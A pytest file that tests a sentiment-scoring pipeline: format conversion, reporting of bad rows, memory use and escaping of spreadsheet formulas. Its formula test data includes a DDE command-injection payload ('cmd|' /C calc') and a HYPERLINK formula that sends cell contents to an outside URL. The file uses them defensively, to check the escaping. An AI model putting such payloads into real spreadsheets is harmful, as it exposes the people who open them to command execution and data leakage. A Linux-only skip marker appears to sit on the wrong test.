"""Files of texts, labelled: every pair of formats, bad rows, and memory that does not grow with the file.

| input            | output                                                         |
|------------------|----------------------------------------------------------------|
| all columns      | kept, in their order, before what is added                     |
| a bad row        | nothing is written; or all but it, and it is listed by its line |
| a formula        | kept; or escaped for a spreadsheet                             |
| 20 times as long | the same memory                                                |
"""

import csv
import gzip
import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas
import pytest
from click.testing import CliRunner

from sentiment_model import Scorer
from sentiment_model.modelfile import write_model
from sentiment_pipeline.cli import main
from sentiment_pipeline.errors import DataError
from sentiment_pipeline.score import Scored, score
from tests.unit.model.models import three_classes, two_classes

ROWS = [
    {"id": "1", "text": "good, not bad", "label": "positive"},
    {"id": "2", "text": "bad\nin two lines", "label": ""},
    {"id": "3", "text": "", "label": "neutral"},
]


@pytest.fixture
def model(tmp_path: Path) -> Path:
    write_model(tmp_path / "model.safetensors", two_classes())
    return tmp_path / "model.safetensors"


def write(path: Path, rows: list[dict[str, Any]]) -> Path:
    opened: Any = gzip.open if path.suffix == ".gz" else open
    with opened(path, "wt", encoding="utf-8", newline="") as file:
        if ".jsonl" in path.suffixes:
            file.writelines(json.dumps(row) + "\n" for row in rows)
        else:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return path


def read(path: Path) -> list[dict[str, Any]]:
    opened: Any = gzip.open if path.suffix == ".gz" else open
    with opened(path, "rt", encoding="utf-8", newline="") as file:
        return [json.loads(line) for line in file] if ".jsonl" in path.suffixes else list(csv.DictReader(file))


@pytest.mark.parametrize("to", ["out.csv", "out.csv.gz", "out.jsonl", "out.jsonl.gz"])
@pytest.mark.parametrize("of", ["in.csv", "in.csv.gz", "in.jsonl", "in.jsonl.gz"])
def test_every_format_becomes_every_format(of: str, to: str, model: Path, tmp_path: Path) -> None:
    scored = score(model, write(tmp_path / of, ROWS), tmp_path / to)
    assert scored == Scored(rows=3)
    found = read(tmp_path / to)
    assert [list(row) for row in found] == [["id", "text", "label", "predicted_label", "predicted_probability"]] * 3
    assert [{name: row[name] for name in ROWS[0]} for row in found] == ROWS
    for row in found:
        prediction = Scorer.open(model).predict(row["text"])
        assert row["predicted_label"] == prediction.label
        assert float(row["predicted_probability"]) == pytest.approx(max(prediction.probabilities), abs=1e-6)


def test_values_that_are_no_strings_stay_what_they_are(model: Path, tmp_path: Path) -> None:
    rows = [{"id": 7, "text": "good", "tags": ["a", {"b": None}], "seen": None, "rate": 0.5}]
    data = write(tmp_path / "in.jsonl", rows)
    score(model, data, tmp_path / "out.jsonl")
    assert {name: read(tmp_path / "out.jsonl")[0][name] for name in rows[0]} == rows[0]
    score(model, data, tmp_path / "out.csv")
    cells = read(tmp_path / "out.csv")[0]
    assert (cells["id"], cells["tags"], cells["seen"], cells["rate"]) == ("7", '["a", {"b": null}]', "", "0.5")


def test_the_probability_of_every_label_adds_up(tmp_path: Path) -> None:
    write_model(tmp_path / "model.safetensors", three_classes())
    score(tmp_path, write(tmp_path / "in.csv", ROWS), tmp_path / "out.csv", every_label=True)
    for row in read(tmp_path / "out.csv"):
        shares = [float(row[f"probability_{label}"]) for label in ("negative", "neutral", "positive")]
        assert sum(shares) == pytest.approx(1, abs=2e-6)
        assert max(shares) == float(row["predicted_probability"])


BAD_CSV = b'id,text\n1,"good\nfilm"\n2\n3,bad\n4,\xff\n5,"unclosed" quote\n6,fine\n'
BAD_JSONL = (
    b'{"id": 1, "text": "good"}\n\n{"id": 2}\n{"id": 3, "text": 3}\n'
    b'not json\n[4]\n{"text": "\\ud800"}\n{"text": "fine"}\n'
)


@pytest.mark.parametrize(
    ("name", "content", "listed", "good"),
    [
        (
            "in.csv",
            BAD_CSV,
            ["line 4: expected 2 fields as in the first line, found 1", "line 6: not UTF-8", "line 7: not CSV"],
            ["good\nfilm", "bad", "fine"],
        ),
        (
            "in.jsonl",
            BAD_JSONL,
            [
                "line 3: no text in column 'text'",
                "line 4: no text in column 'text'",
                "line 5: not JSON",
                "line 6: not a JSON object",
                "line 7: a lone surrogate",
            ],
            ["good", "fine"],
        ),
    ],
)
def test_bad_rows_are_listed_by_their_lines(
    name: str, content: bytes, listed: list[str], good: list[str], model: Path, tmp_path: Path
) -> None:
    (tmp_path / name).write_bytes(content)
    out = tmp_path / "out.csv"
    out.write_text("what was there")
    with pytest.raises(
        DataError, match=f"^{len(listed)} rows of {name} cannot be scored, and nothing was written"
    ) as caught:
        score(model, tmp_path / name, out)
    lines = str(caught.value).splitlines()
    assert [line.strip()[: len(sentence)] for line, sentence in zip(lines[1:-1], listed, strict=True)] == listed
    assert lines[-1] == "fix them, or leave them out with --skip-bad-rows"
    assert out.read_text() == "what was there"

    scored = score(model, tmp_path / name, out, skip_bad=True)
    assert (scored.rows, scored.bad_rows) == (len(good), len(listed))
    assert [row["text"] for row in read(out)] == good
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([name, "model.safetensors", "out.csv"])


def test_only_the_first_bad_rows_are_listed_one_by_one(model: Path, tmp_path: Path) -> None:
    (tmp_path / "in.jsonl").write_text('{"text": "good"}\n' + "x\n" * 25)
    scored = score(model, tmp_path / "in.jsonl", tmp_path / "out.csv", skip_bad=True)
    assert len(scored.sentences()) == 11
    assert scored.sentences()[-1] == "and 15 more"


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("in.csv", "review\ngood\n", "expected a column 'text', found review; name the right one with --text"),
        ("in.csv", "text,predicted_label\ngood,x\n", "has a column 'predicted_label' already"),
        ("in.csv", "text\n", "holds no row that can be scored"),
        ("in.jsonl", "", "holds no row that can be scored"),
        ("in.txt", "good\n", "in.txt must end in .csv, .csv.gz, .jsonl, .jsonl.gz"),
        (
            "in.jsonl",
            '{"text": "a"}\n{"text": "b", "more": 1}\n',
            "line 2: column 'more' is not among those of the first",
        ),
    ],
)
def test_a_file_that_cannot_be_scored_is_refused(
    name: str, content: str, sentence: str, model: Path, tmp_path: Path
) -> None:
    (tmp_path / name).write_text(content)
    with pytest.raises(DataError, match=sentence):
        score(model, tmp_path / name, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_json_lines_may_have_columns_of_their_own(model: Path, tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{"text": "good"}, {"text": "bad", "more": 1}]
    score(model, write(tmp_path / "in.jsonl", rows), tmp_path / "out.jsonl")
    assert read(tmp_path / "out.jsonl")[1]["more"] == 1


def test_the_command_reports_what_was_left_out(model: Path, tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_bytes(BAD_CSV)
    files = ["--model", str(model), "--data", str(tmp_path / "in.csv"), "--out", str(tmp_path / "out.csv")]
    refused = CliRunner().invoke(main, ["score", *files])
    assert refused.exit_code == 1
    assert "line 6: not UTF-8" in refused.stderr
    done = CliRunner().invoke(main, ["score", *files, "--skip-bad-rows"])
    assert done.exit_code == 0
    assert "left out line 6: not UTF-8" in done.stderr
    assert "scored 3 rows" in done.stderr


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "-",
    "-1.5.6",
    "+49 30 1234",
    "-inf",
    "= not a formula",
]
PLAIN = [
    "carriage\rreturn",
    "line\nfeed",
    "-1.5",
    "+2",
    "-3e-5",
    "-.5",
    "0.25",
    "",
    "1-2",
    "a=b",
    "'quoted",
    "good, not bad",
    " =1",
]


def table(texts: list[str]) -> list[dict[str, Any]]:
    return [{"id": str(number), "text": text, "=note": text} for number, text in enumerate(texts)]


@pytest.mark.parametrize("of", ["in.csv", "in.jsonl"])
@pytest.mark.parametrize("to", ["out.csv", "out.csv.gz"])
def test_formulas_are_kept_unless_they_are_to_be_escaped(of: str, to: str, model: Path, tmp_path: Path) -> None:
    data = write(tmp_path / of, table(FORMULAS + PLAIN))
    score(model, data, tmp_path / to)
    assert [row["text"] for row in read(tmp_path / to)] == FORMULAS + PLAIN
    score(model, data, tmp_path / to, escape_formulas=True)
    escaped = [f"'{text}" for text in FORMULAS]
    rows = read(tmp_path / to)
    assert [row["text"] for row in rows] == [row["'=note"] for row in rows] == escaped + PLAIN
    assert list(rows[0]) == ["id", "text", "'=note", "predicted_label", "predicted_probability"]
    frame = pandas.read_csv(tmp_path / to, keep_default_na=False, dtype={"text": str})
    assert list(frame["text"]) == escaped + PLAIN
    assert frame["predicted_probability"].dtype == float


def test_an_escaped_table_has_no_cell_that_a_spreadsheet_evaluates(tmp_path: Path) -> None:
    write_model(tmp_path / "model.safetensors", replace(two_classes(), labels=("=negative", "@positive")))
    rows = [{"text": "good", "rate": -1.5, "more": ["=1"]}, {"text": "bad", "rate": -2, "more": "-x"}]
    score(tmp_path, write(tmp_path / "in.jsonl", rows), tmp_path / "out.csv", every_label=True, escape_formulas=True)
    with (tmp_path / "out.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+@\t\r\n＝＋－＠" and cell] == []  # noqa: RUF001
    assert [cell for cell in cells if cell.startswith("-")] == ["-1.5", "-2"]
    assert list(pandas.read_csv(tmp_path / "out.csv")["rate"]) == [-1.5, -2.0]
    assert "'=negative" in cells
    assert "'@positive" in cells


@pytest.mark.parametrize("name", ["out.jsonl", "OUT.JSONL.GZ"])
def test_formulas_are_not_escaped_where_nothing_evaluates_them(name: str, model: Path, tmp_path: Path) -> None:
    data = write(tmp_path / "in.csv", table(FORMULAS))
    with pytest.raises(DataError, match=f"escaped in CSV only, and {name} is JSON Lines: leave out --escape-formulas"):
        score(model, data, tmp_path / name, escape_formulas=True)
    assert not (tmp_path / name).exists()
    score(model, data, tmp_path / name)
    if name == "out.jsonl":
        assert [row["text"] for row in read(tmp_path / name)] == FORMULAS


def test_the_command_escapes_formulas_and_its_help_has_the_reason(model: Path, tmp_path: Path) -> None:
    data = write(tmp_path / "in.csv", table(["=1+1"]))
    files = ["--model", str(model), "--data", str(data), "--out", str(tmp_path / "out.csv")]
    assert CliRunner().invoke(main, ["score", *files, "--escape-formulas"]).exit_code == 0
    assert read(tmp_path / "out.csv")[0]["text"] == "'=1+1"
    words = " ".join(CliRunner().invoke(main, ["score", "--help"]).output.split())
    assert "A spreadsheet evaluates a cell such as =1+1 as a formula" in words


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="asks Linux for the peak")
def test_the_end_of_a_name_determines_the_format(model: Path, tmp_path: Path) -> None:
    data = tmp_path / "in.jsonl"
    data.write_text('{"text": "a"}\n{"text": "b", "more": 1}\n')
    assert score(model, data, tmp_path / "OUT.JSONL").rows == 2
    with pytest.raises(DataError, match="column 'more' is not among those of the first"):
        score(model, data, tmp_path / "out.jsonl.csv")


def test_memory_does_not_grow_with_the_file(model: Path, tmp_path: Path) -> None:
    peak = """
import sys
from pathlib import Path
from sentiment_pipeline.score import score
score(*map(Path, sys.argv[1:]))
# Not getrusage, whose peak is that of the process before, which began this one.
print(next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")))
"""

    def peak_kib(rows: int) -> int:
        data = tmp_path / f"{rows}.csv"
        data.write_text("id,text\n" + "".join(f"{n},{'not a good film ' * 20}\n" for n in range(rows)))
        command = [sys.executable, "-c", peak, str(model), str(data), str(tmp_path / "out.csv.gz")]
        done = subprocess.run(command, capture_output=True, text=True, check=True)
        return int(done.stdout)

    few, many = peak_kib(4_000), peak_kib(80_000)  # 1.3 and 26 MB
    assert many < few + 4_000
